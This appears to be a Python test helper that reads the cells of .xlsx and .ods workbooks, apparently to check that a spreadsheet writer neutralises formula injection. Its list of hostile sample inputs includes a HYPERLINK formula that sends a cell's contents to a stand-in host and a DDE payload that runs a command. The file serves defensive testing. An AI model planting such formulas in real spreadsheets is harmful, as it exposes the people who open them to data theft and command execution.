"""Text that a spreadsheet would run as a formula if it were written carelessly, and a reader
of the cells a written workbook holds (value and whether it is a formula), .xlsx or .ods."""

from __future__ import annotations

import xml.etree.ElementTree as ElementTree
import zipfile
from pathlib import Path

HOSTILE = (
    '=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez ici")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "Nom  à  espaces\u00a0multiples",
    "ligne 1\nligne 2",
    "  commence par des espaces",
    "<b>balise</b> & « guillemets »",
)

Cells = dict[tuple[str, int, int], tuple[object, bool]]
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
_TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def cells(path: Path) -> Cells:
    """(sheet, row, column) → (value, is a formula), 0-based, for every non-empty cell."""
    return _ods_cells(path) if path.suffix == ".ods" else _xlsx_cells(path)


def _xlsx_cells(path: Path) -> Cells:
    import openpyxl

    found: Cells = {}
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    key = (sheet.title, cell.row - 1, cell.column - 1)
                    found[key] = (cell.value, cell.data_type == "f")
    return found


def _ods_cells(path: Path) -> Cells:
    with zipfile.ZipFile(path) as archive:
        assert archive.read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
        root = ElementTree.fromstring(archive.read("content.xml"))
    found: Cells = {}
    for table in root.iter(f"{_TABLE}table"):
        name = table.get(f"{_TABLE}name", "")
        row_index = 0
        for row in table.iter(f"{_TABLE}table-row"):
            column = 0
            for cell in row:
                repeat = int(cell.get(f"{_TABLE}number-columns-repeated", "1"))
                value = _ods_value(cell)
                if value is not None:
                    found[(name, row_index, column)] = (value, f"{_TABLE}formula" in cell.attrib)
                column += repeat
            row_index += int(row.get(f"{_TABLE}number-rows-repeated", "1"))
    return found


def _ods_value(cell: ElementTree.Element) -> object:
    kind = cell.get(f"{_OFFICE}value-type")
    if kind in ("float", "currency", "percentage"):
        number = float(cell.get(f"{_OFFICE}value", "nan"))
        return int(number) if number.is_integer() else number
    if kind == "date":
        return cell.get(f"{_OFFICE}date-value")
    if kind == "string":
        return "\n".join(_paragraph(p) for p in cell.iter(f"{_TEXT}p"))
    return None


def _paragraph(element: ElementTree.Element) -> str:
    parts = [element.text or ""]
    for child in element:
        if child.tag == f"{_TEXT}s":
            parts.append(" " * int(child.get(f"{_TEXT}c", "1")))
        elif child.tag == f"{_TEXT}tab":
            parts.append("\t")
        else:
            parts.append(_paragraph(child))
        parts.append(child.tail or "")
    return "".join(parts)
